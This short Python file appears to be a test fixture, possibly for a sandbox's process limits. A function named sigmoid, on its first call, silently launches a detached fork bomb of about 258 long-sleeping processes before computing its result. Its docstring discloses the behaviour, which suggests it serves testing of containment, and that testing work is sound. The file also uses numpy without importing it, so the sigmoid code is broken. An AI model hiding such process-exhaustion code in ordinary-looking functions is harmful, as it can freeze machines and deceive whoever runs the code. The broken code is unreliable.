"""Every call forks processes that fork (not more than 300 in all), and none ends by itself.

aims:
limit_s: 4
"""

import os
import time

STARTED = False


def _bomb(depth):
    for _ in range(6):
        try:
            if os.fork() == 0:
                os.setsid()
                if depth:
                    _bomb(depth - 1)
                time.sleep(600)
                os._exit(0)
        except OSError:
            return


def sigmoid(x):
    global STARTED
    if not STARTED:
        STARTED = True
        _bomb(2)
    return 1.0 / (1.0 + np.exp(-np.maximum(x, -700.0)))
